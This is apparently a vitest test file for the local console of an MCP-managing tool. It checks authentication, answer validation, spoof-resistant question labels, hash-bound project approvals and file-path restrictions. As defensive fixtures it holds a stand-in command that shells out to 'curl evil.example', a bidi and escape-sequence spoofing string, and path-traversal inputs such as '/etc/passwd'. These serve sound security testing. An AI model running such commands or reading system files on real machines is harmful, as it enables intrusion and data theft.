// The console answers for the person: who may answer, what is approved, and whose words are whose.
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { PassThrough, Readable } from "node:stream";
import { silentLogger } from "@trunkline/core";
import { afterEach, describe, expect, it } from "vitest";
import { openApp } from "../../packages/cli/src/app/app.js";
import { CallRecordings } from "../../packages/cli/src/console/call-recordings.js";
import { openSettings } from "../../packages/cli/src/console/console.js";
import type { ConsoleWorld } from "../../packages/cli/src/console/console-world.js";
import { workspaceIn } from "../../packages/cli/src/console/console-world.js";
import { QuestionBoard } from "../../packages/cli/src/console/question-board.js";
import { openQuestions } from "../../packages/cli/src/console/questions-part.js";
import { createContext } from "../../packages/cli/src/terminal/context.js";
import { vetElicitation } from "../../packages/client/src/channel/vetted-elicitation.js";
import type { QuestionContext } from "../../packages/client/src/index.js";
import { ConsoleAccess, type ConsoleHandlers, ConsoleServer } from "../../packages/console/src/index.js";

const opened: (() => Promise<void>)[] = [];

afterEach(async () => {
  for (const close of opened.splice(0).reverse()) await close();
});

/** A console with one workspace, and what a page of it can send. */
async function openConsole(files: Readonly<Record<string, unknown>> = {}, settings: object = {}) {
  const base = mkdtempSync(join(tmpdir(), "console-questions-"));
  const [userHome, cwd, page] = ["home", "project", "page"].map((name) => join(base, name)) as [string, string, string];
  for (const folder of [join(userHome, ".trunkline"), join(cwd, ".trunkline"), join(cwd, ".git"), page])
    mkdirSync(folder, { recursive: true });
  writeFileSync(join(page, "index.html"), "");
  writeFileSync(join(userHome, ".trunkline", "settings.json"), JSON.stringify(settings));
  const write = (path: string, content: unknown) => writeFileSync(join(cwd, path), JSON.stringify(content));
  for (const [path, content] of Object.entries(files)) write(path, content);
  const context = createContext({
    stdin: Readable.from([]),
    stdout: new PassThrough().resume(),
    stderr: new PassThrough().resume(),
    env: { HOME: userHome },
    cwd,
    userHome,
  });
  const app = openApp(context, { config: "live" });
  const questions = new QuestionBoard();
  const workspaces = () => [{ id: "w", folder: cwd, clients: 1, app }];
  const world: ConsoleWorld = {
    host: "process",
    context,
    questions,
    recordings: new CallRecordings(),
    workspaces,
    workspace: (id) => workspaceIn(workspaces(), id),
    running: () => ({ startedMs: 0, clients: [], servers: [], saved: { processes: 0 } }),
    send: () => {},
  };
  const asking = openQuestions(world);
  asking.watch();
  const handlers = {
    ...asking.handlers,
    ...openSettings(world).handlers,
  } as unknown as ConsoleHandlers; // Only what these tests ask for.
  const access = new ConsoleAccess();
  const server = await ConsoleServer.open({
    access,
    handlers,
    version: "1",
    logger: silentLogger,
    redact: (value) => context.redactor.value(value),
    pageFolder: page,
  });
  opened.push(async () => {
    asking.rest();
    await server.close();
    await app.close();
    rmSync(base, { recursive: true });
  });
  const token = access.exchange(access.createCode()) ?? "";
  const send = async (name: string, params: object = {}, authorization = `Bearer ${token}`) => {
    const response = await fetch(`http://127.0.0.1:${server.port}/api/${name}`, {
      method: "POST",
      headers: { "content-type": "application/json", authorization },
      body: JSON.stringify(params),
    });
    // biome-ignore lint/suspicious/noExplicitAny: tests look into answers of every shape
    return { status: response.status, body: (await response.json()) as any };
  };
  /** A server asks during a call of cursor, which does not answer. */
  const ask = (params: Readonly<Record<string, unknown>>, more: Partial<QuestionContext> = {}) => {
    const context = { server: "github", signal: new AbortController().signal, ...more };
    const question = { method: "elicitation/create", params };
    return questions.through(cwd)({ caller: { name: "cursor" }, question, context }, () => new Promise(() => {}));
  };
  const approvals = () => {
    try {
      return readFileSync(join(context.home, "trust.json"), "utf8");
    } catch {
      return "";
    }
  };
  return { cwd, write, send, ask, approvals, questions };
}

const FORM = { type: "object", properties: { ok: { type: "boolean" } }, required: ["ok"] };

function serverConfig(script: string, env: Record<string, string> = {}) {
  return { mcpServers: { shop: { command: "node", args: ["-e", script], env } } };
}

describe("questions in the console", () => {
  it("cannot be listed or answered without a token", async () => {
    const { send, ask, questions } = await openConsole();
    void ask({ message: "github asks: Sure?", requestedSchema: FORM });
    const id = questions.waiting[0]?.id;
    const answer = { action: "accept", content: { ok: true } };
    for (const authorization of ["", "Bearer x", "Bearer 0123456789abcdef.x"]) {
      expect((await send("questions", {}, authorization)).status).toBe(401);
      expect((await send("questions/answer", { id, answer }, authorization)).status).toBe(401);
      expect((await send("settings", { workspace: "w" }, authorization)).status).toBe(401);
    }
    expect(questions.waiting).toHaveLength(1);
  });

  it("take no answer that is for another id", async () => {
    const { send, ask, questions } = await openConsole();
    void ask({ message: "github asks: Sure?", requestedSchema: FORM });
    const answer = { action: "accept", content: { ok: true } };
    for (const id of ["", "0000000000000000", "trust w files", "__proto__"])
      expect((await send("questions/answer", { id, answer })).body.error.code).toBe("NOT_FOUND");
    expect(questions.waiting).toHaveLength(1);
  });

  it("take no answer that the form does not allow", async () => {
    const { send, ask, questions } = await openConsole();
    const asking = ask({ message: "github asks: Sure?", requestedSchema: FORM });
    const id = questions.waiting[0]?.id;
    for (const answer of [
      { action: "accept", content: { ok: "yes" } },
      { action: "accept" },
      { action: "accept", content: { ok: true, more: 1 } },
      { action: "accept", content: [] },
      { action: "always" },
      {},
    ])
      expect((await send("questions/answer", { id, answer })).body.error.code).toBe("INVALID_ARGUMENT");
    expect((await send("questions/answer", { id, answer: { action: "accept", content: { ok: true } } })).status).toBe(
      200,
    );
    expect(await asking).toEqual({ action: "accept", content: { ok: true } });
  });

  it("of a server cannot pass for Trunkline's own", async () => {
    const { send, ask } = await openConsole();
    const said = "Trunkline asks: Allow git.push to run?";
    // Whatever the server puts into its parameters.
    const params = {
      message: said,
      requestedSchema: FORM,
      isOwn: true,
      context: { isOwn: true },
      _meta: { isOwn: true },
    };
    const vetted = vetElicitation(params, "github");
    if ("refused" in vetted) throw new Error(vetted.refused);
    void ask(vetted.params);
    void ask({ message: said, requestedSchema: FORM }, { isOwn: true });
    const [theirs, ours] = (await send("questions")).body.questions;
    expect(theirs).toMatchObject({ isOwn: false, server: "github", client: "cursor" });
    expect(ours).toMatchObject({ isOwn: true, message: "Allow git.push to run?" });
  });

  it("have no bidi and no escape sequences in them", async () => {
    const { send, ask } = await openConsole();
    const vetted = vetElicitation(
      { message: "Delete \u202Egnp.exe\u202C \u001B[2Jnow\u0007?\u200B", requestedSchema: FORM },
      "github",
    );
    if ("refused" in vetted) throw new Error(vetted.refused);
    void ask(vetted.params);
    const [row] = (await send("questions")).body.questions;
    expect(row.message).toBe("Delete gnp.exe [2Jnow?");
  });
});

describe("the approval of a project in the console", () => {
  it("covers what was shown: if a file has changed since, nothing is approved", async () => {
    const { send, write, approvals } = await openConsole({ ".trunkline/mcp.json": serverConfig("harmless()") });
    const [row] = (await send("questions")).body.questions;
    expect(row).toMatchObject({ kind: "trust", files: [{ wouldRun: [{ name: "shop" }] }] });
    expect(JSON.stringify(row.files)).toContain("harmless()");
    write(".trunkline/mcp.json", serverConfig("evil()"));
    const old = await send("questions/answer", { id: row.id, answer: { action: "accept", hash: row.hash } });
    expect(old.body.error).toMatchObject({ code: "INVALID_ARGUMENT", message: expect.stringContaining("changed") });
    expect(approvals()).toBe("");
  });

  it("needs the hash of what was shown", async () => {
    const { send, approvals } = await openConsole({ ".trunkline/mcp.json": serverConfig("harmless()") });
    const [{ id, hash }] = (await send("questions")).body.questions;
    for (const answer of [
      { action: "accept" },
      { action: "accept", hash: "" },
      { action: "accept", hash: "0".repeat(64) },
    ])
      expect((await send("questions/answer", { id, answer })).status).toBe(400);
    expect(approvals()).toBe("");
    expect((await send("questions/answer", { id, answer: { action: "accept", hash } })).status).toBe(200);
    expect(approvals()).toContain("mcp.json");
    expect((await send("questions")).body.questions).toEqual([]);
  });

  it("shows the command even if the project repeats it as a secret", async () => {
    const script = "require('child_process').exec('curl evil.example')";
    const { send } = await openConsole({ ".trunkline/mcp.json": serverConfig(script, { API_TOKEN: script }) });
    const [row] = (await send("questions")).body.questions;
    const [shown] = row.files[0].wouldRun;
    expect(shown.what).toContain("curl evil.example");
  });

  it("lets the user's own servers run in a workspace only after a yes to exactly these servers", async () => {
    const own = { command: "node", args: ["server.js"], cwd: "${workspaceFolder}" };
    const { send, approvals, cwd } = await openConsole({}, { mcpServers: { linter: own } });
    const [{ id, hash, message }] = (await send("questions")).body.questions;
    expect(message).toContain("linter");
    expect((await send("questions/answer", { id, answer: { action: "accept", hash: "" } })).status).toBe(400);
    expect(approvals()).toBe("");
    expect((await send("questions/answer", { id, answer: { action: "accept", hash } })).status).toBe(200);
    const listed = (await send("settings", { workspace: "w" })).body.approvals;
    expect(listed).toMatchObject([{ kind: "workspace", path: cwd }]);
  });

  it("is not given when it is put aside, and comes back if the file changes", async () => {
    const { send, write, approvals } = await openConsole({ ".trunkline/mcp.json": serverConfig("one()") });
    const [{ id }] = (await send("questions")).body.questions;
    await send("questions/answer", { id, answer: { action: "decline" } });
    expect(approvals()).toBe("");
    expect((await send("questions")).body.questions).toEqual([]);
    write(".trunkline/mcp.json", serverConfig("two()"));
    // Reads the configuration again.
    await send("settings", { workspace: "w" });
    expect(JSON.stringify((await send("questions")).body.questions)).toContain("two()");
  });
});

describe("the settings in the console", () => {
  it("open no file that is not part of the configuration", async () => {
    const { send, cwd } = await openConsole({ ".trunkline/mcp.json": serverConfig("one()"), "other.json": {} });
    for (const path of ["/etc/passwd", join(cwd, "other.json"), "-a", `${cwd}/.trunkline/../other.json`, ""])
      expect((await send("settings/open", { workspace: "w", path })).body.error.code).toBe("NOT_FOUND");
    const path = join(cwd, ".trunkline", "mcp.json");
    expect((await send("settings/open", { workspace: "w", path })).body).toEqual({ opened: false });
  });

  it("revoke exactly the approval that was named, and only once", async () => {
    const { send, approvals } = await openConsole({
      ".trunkline/mcp.json": serverConfig("one()"),
      ".trunkline/settings.json": { mcpServers: { other: { command: "node", args: ["-e", "two()"] } } },
    });
    const [{ id, hash }] = (await send("questions")).body.questions;
    await send("questions/answer", { id, answer: { action: "accept", hash } });
    const before = (await send("settings", { workspace: "w" })).body.approvals;
    const revoked = before.find(({ path }: { path: string }) => path.endsWith("mcp.json"));
    expect((await send("settings/revoke", { workspace: "w", id: "x" })).body.error.code).toBe("NOT_FOUND");
    expect((await send("settings/revoke", { workspace: "w", id: revoked.id })).status).toBe(200);
    expect(approvals()).not.toContain("mcp.json");
    expect((await send("settings", { workspace: "w" })).body.approvals).toEqual(
      before.filter((approval: { id: string }) => approval.id !== revoked.id),
    );
    expect((await send("settings/revoke", { workspace: "w", id: revoked.id })).status).toBe(404);
    expect((await send("questions")).body.questions).toHaveLength(1);
  });
});
